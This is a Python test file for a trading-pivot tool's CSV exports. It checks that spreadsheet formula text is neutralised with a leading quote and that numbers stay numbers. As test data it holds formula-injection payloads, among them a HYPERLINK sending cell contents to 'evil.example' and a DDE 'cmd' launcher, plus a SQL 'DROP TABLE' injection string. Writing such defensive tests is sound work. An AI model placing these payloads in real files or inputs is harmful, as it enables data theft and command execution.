"""CSV exports: the screen as shown, and every raw trade of the current filters."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from backend.pivot import PivotRequest
from backend.pivot.drill import drill_scope
from backend.pivot.engine import latest_trade_date, run_pivot
from backend.pivot.export import export_chunks, screen_csv, stream_trades_csv
from backend.pivot.result import tree_rows
from backend.pivot.view_state import Expansion, visible_rows
from backend.warehouse import Warehouse
from components.pivot_grid import metric_fields


@pytest.fixture(scope="module")
def trades(trades_folder: Path) -> pd.DataFrame:
    return pd.concat(pd.read_parquet(p) for p in sorted((trades_folder / "trades_1d").glob("*.parquet")))


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_screen_csv_is_the_visible_tree_with_plain_numbers(loaded_warehouse: Warehouse) -> None:
    day = latest_trade_date(loaded_warehouse).isoformat()
    body = {"dimensions": ["desk", "asset_class", "symbol"], "metrics": ["pnl", "notional"],
            "filters": {"trade_date": day}}
    result = run_pivot(loaded_warehouse, PivotRequest.model_validate(body)).to_dict()
    tree = tree_rows(result)
    first = next(r for r in tree if r["_kind"] == "group")
    exp = Expansion(open=(first["_id"],))
    fields = metric_fields(["pnl", "notional"], [], [])
    rows = _read(screen_csv(tree, result["totals"], exp, body["dimensions"], fields))

    assert rows[0] == ["Row type", "Desk", "Asset class", "Symbol", "P&L", "Notional"]
    shown = visible_rows(tree, exp)
    assert len(rows) == 1 + len(shown) + 1
    # Top level and the one opened desk's children; nothing deeper.
    assert {len(r["_path"]) for r in shown} == {1, 2}
    for line, row in zip(rows[1:-1], shown, strict=True):
        assert line[0] == ("Subtotal" if row["_kind"] == "group" else "Detail")
        assert line[1 : 1 + len(row["_path"])] == [str(v) for v in row["_path"]]
        assert float(line[4]) == pytest.approx(row["pnl"]) and "," not in line[4]
    assert rows[-1][0] == "Total" and float(rows[-1][4]) == pytest.approx(result["totals"]["pnl"])
    # The top-level subtotals add up to the total written on the last line.
    assert sum(float(r[4]) for r in rows[1:-1] if r[2] == "") == pytest.approx(float(rows[-1][4]))


def test_screen_csv_quotes_hostile_labels_and_leaves_missing_values_blank() -> None:
    tree = [{"_id": "a", "_path": ['=HYPERLINK("x"),"evil"'], "_kind": "leaf", "_level": 1, "pnl": None}]
    rows = _read(screen_csv(tree, {"pnl": float("nan")}, Expansion(), ["desk"], [("pnl", "P&L")]))
    assert rows[1] == ["Detail", '\'=HYPERLINK("x"),"evil"', ""]
    assert rows[2] == ["Total", "", ""]


# -- formula cells: text a spreadsheet would run is written as text -------------------
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tTAB=1", "\rCR=1", "plain 'quoted' = fine"]


def _guarded(text: str) -> str:
    """What the export must write for ``text``: computed here from the rule, not by the code under test."""
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


@pytest.fixture
def hostile_warehouse(fresh_warehouse: Warehouse, trades: pd.DataFrame, tmp_path: Path) -> Warehouse:
    from backend.warehouse.loader import load_folder

    day = trades.trade_date.max()
    rows = trades[(trades.trade_date == day) & (trades.exposure_type == "Direct")].head(len(HOSTILE)).copy()
    rows["symbol"], rows["counterparty"], rows["desk"] = HOSTILE, HOSTILE[::-1], HOSTILE
    rows["pnl"] = [-1234.5, 2.0, -0.25, 7.0, -1e9, 3.5, -8.0]  # negative numbers stay numbers
    (tmp_path / "hostile" / "trades_1d").mkdir(parents=True)
    rows.to_parquet(tmp_path / "hostile" / "trades_1d" / f"{day}.parquet", index=False)
    load_folder(fresh_warehouse, tmp_path / "hostile")
    return fresh_warehouse


def test_raw_export_writes_formula_text_as_text_and_numbers_as_numbers(hostile_warehouse: Warehouse,
                                                                       trades: pd.DataFrame) -> None:
    day = trades.trade_date.max().isoformat()
    scope = drill_scope({"dimensions": ["desk"], "metrics": ["pnl"], "filters": {"trade_date": day}}, [])
    data = b"".join(stream_trades_csv(hostile_warehouse, scope)).decode()
    got = {r["trade_id"]: r for r in csv.DictReader(io.StringIO(data, newline=""))}
    assert len(got) == len(HOSTILE)
    by_symbol = {r["symbol"]: r for r in got.values()}
    assert set(by_symbol) == {_guarded(h) for h in HOSTILE}
    for text, pnl in zip(HOSTILE, [-1234.5, 2.0, -0.25, 7.0, -1e9, 3.5, -8.0], strict=True):
        row = by_symbol[_guarded(text)]
        assert row["desk"] == _guarded(text)
        assert float(row["pnl"]) == pnl and not row["pnl"].startswith("'")
    assert sorted(r["counterparty"] for r in got.values()) == sorted(_guarded(h) for h in HOSTILE)
    assert all(not r["quantity"].startswith("'") and float(r["quantity"]) == float(r["quantity"]) for r in got.values())


def test_screen_csv_of_hostile_groups_writes_text_with_a_quote(hostile_warehouse: Warehouse,
                                                               trades: pd.DataFrame) -> None:
    day = trades.trade_date.max().isoformat()
    body = {"dimensions": ["desk", "symbol"], "metrics": ["pnl"], "filters": {"trade_date": day}}
    result = run_pivot(hostile_warehouse, PivotRequest.model_validate(body)).to_dict()
    tree = tree_rows(result)
    opened = Expansion(open=tuple(r["_id"] for r in tree if r["_kind"] == "group"))
    rows = _read(screen_csv(tree, result["totals"], opened, body["dimensions"], metric_fields(["pnl"], [], [])))
    desks = {r[1]: r for r in rows[1:-1] if r[0] == "Subtotal"}
    assert set(desks) == {_guarded(h) for h in HOSTILE}
    pnl = dict(zip(HOSTILE, [-1234.5, 2.0, -0.25, 7.0, -1e9, 3.5, -8.0], strict=True))
    for text, value in pnl.items():
        assert float(desks[_guarded(text)][3]) == value
    leaves = [r for r in rows[1:-1] if r[0] == "Detail"]
    assert sorted(r[2] for r in leaves) == sorted(_guarded(h) for h in HOSTILE)
    assert float(rows[-1][3]) == pytest.approx(sum(pnl.values()))


def _raw_csv(wh: Warehouse, scope, chunk_rows: int) -> pd.DataFrame:
    data = b"".join(stream_trades_csv(wh, scope, chunk_rows=chunk_rows))
    return pd.read_csv(io.BytesIO(data))


@pytest.mark.parametrize("chunk_rows", [500, 250_000])
def test_raw_export_holds_every_trade_of_the_filters_once(
    loaded_warehouse: Warehouse, trades: pd.DataFrame, chunk_rows: int
) -> None:
    body = {"dimensions": ["desk"], "metrics": ["pnl"],
            "filters": {"trade_date": {"from": "2024-01-02", "to": "2024-02-29"}, "asset_class": ["Equity"]}}
    scope = drill_scope(body, [])
    expected = trades[(trades.asset_class == "Equity") & trades.exposure_type.isin(["Direct", "ETF", "ETC"])]
    assert len(expected) > 1000
    if chunk_rows == 500:
        assert len(export_chunks(loaded_warehouse, scope, chunk_rows)) > 3
    got = _raw_csv(loaded_warehouse, scope, chunk_rows)
    assert len(got) == len(expected)
    assert got.pnl.sum() == pytest.approx(expected.pnl.sum())
    key = ["trade_id", "symbol", "exposure_type"]
    assert not got.duplicated(key).any()
    assert sorted(map(tuple, got[key].values.tolist())) == sorted(map(tuple, expected[key].values.tolist()))


def test_raw_export_of_an_empty_selection_is_just_the_header(loaded_warehouse: Warehouse) -> None:
    scope = drill_scope({"dimensions": ["desk"], "metrics": ["pnl"],
                         "filters": {"trade_date": "2024-01-02", "desk": ["'; DROP TABLE trades_1d; --"]}}, [])
    chunks = list(stream_trades_csv(loaded_warehouse, scope))
    assert len(chunks) == 1 and chunks[0].startswith(b"trade_id,position_id,trade_date")


def test_screen_csv_says_which_date_each_stock_column_is_as_of(loaded_warehouse: Warehouse, trades: pd.DataFrame) -> None:
    body = {"dimensions": ["desk"], "columns": ["side"], "metrics": ["pnl", "gross_exposure", "pnl_pct_gross"],
            "filters": {"trade_date": {"from": "2024-02-01", "to": "2024-02-25"}}}
    result = run_pivot(loaded_warehouse, PivotRequest.model_validate(body)).to_dict()
    shown = trades[(trades.trade_date >= pd.Timestamp("2024-02-01").date()) & (trades.trade_date <= pd.Timestamp("2024-02-25").date())
                   & trades.exposure_type.isin(["Direct", "ETF", "ETC"])]
    as_of = str(shown.trade_date.max())
    assert result["meta"]["as_of"] == as_of and as_of < "2024-02-25"
    fields = metric_fields(body["metrics"], body["columns"], result["column_values"])
    header = _read(screen_csv(tree_rows(result), result["totals"], Expansion(), body["dimensions"], fields,
                              meta=result["meta"]))[0]
    by_field = dict(zip([f for f, _ in fields], header[2:], strict=True))
    assert by_field["pnl"] == "Total · P&L"  # a flow: summed over the range, no date
    assert by_field["gross_exposure"] == f"Total · Gross exposure (as of {as_of})"
    assert by_field["gross_exposure__c0"].endswith(f"Gross exposure (as of {as_of})")
    assert by_field["pnl_pct_gross"].endswith(f"(gross as of {as_of})")
    # The value written is the exposure of that one date, not the days added up.
    total = _read(screen_csv(tree_rows(result), result["totals"], Expansion(), body["dimensions"], fields,
                             meta=result["meta"]))[-1]
    want = shown[shown.trade_date.astype(str) == as_of].notional.abs().sum()
    assert float(total[2 + list(by_field).index("gross_exposure")]) == pytest.approx(want, rel=1e-9)


@pytest.mark.parametrize(
    ("meta", "note"),
    [
        ({"as_of": "2024-02-23", "stocks": "last", "stock_days": 17}, "as of 2024-02-23"),
        ({"as_of": "2024-02-23", "stocks": "average", "stock_days": 17}, "daily average over 17 dates to 2024-02-23"),
        ({"as_of": "2024-02-23", "stocks": "average", "stock_days": 1}, "daily average over 1 date to 2024-02-23"),
        ({"as_of": "2024-02-23", "stocks": "last", "stocks_by_date": True}, "as of 2024-02-23; a dated row shows its own day"),
        ({"as_of": None, "stocks": "last", "stock_days": 0}, None),
        (None, None),
    ],
)
def test_stock_note_describes_the_rule(meta: dict | None, note: str | None) -> None:
    from backend.pivot.export import stock_note

    assert stock_note(meta) == note


def test_raw_export_marks_the_rows_of_the_last_date_with_data(loaded_warehouse: Warehouse, trades: pd.DataFrame) -> None:
    body = {"dimensions": ["desk"], "metrics": ["pnl"],
            "filters": {"trade_date": {"from": "2024-01-29", "to": "2024-02-25"}, "asset_class": ["Equity"]}}
    scope = drill_scope(body, [])
    got = _raw_csv(loaded_warehouse, scope, 700)
    assert got.columns[-1] == "is_as_of_date"
    as_of = got.trade_date.max()
    assert as_of < "2024-02-25"
    assert (got.is_as_of_date == (got.trade_date == as_of).astype(int)).all()
    # Exposure over the export's range: the marked rows only, as the pivot reads it.
    pivot = run_pivot(loaded_warehouse, PivotRequest.model_validate({**body, "metrics": ["gross_exposure"]}))
    marked = got[got.is_as_of_date == 1]
    assert pivot.meta["as_of"] == as_of
    assert marked.notional.abs().sum() == pytest.approx(pivot.totals["gross_exposure"], rel=1e-9)


@pytest.mark.parametrize(
    ("value", "written"),
    [("=1+1", "'=1+1"), ("+44 20", "'+44 20"), ("-5", "'-5"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
     ("AAPL", "AAPL"), ("a=b", "a=b"), ("", ""), ("'=x", "'=x"),
     (-5, -5), (-0.5, -0.5), (3, 3), (None, None)],
)
def test_formula_text_gets_a_quote_and_numbers_stay_numbers(value: object, written: object) -> None:
    from backend.pivot.formula import neutralise

    assert neutralise(value) == written and type(neutralise(value)) is type(written)
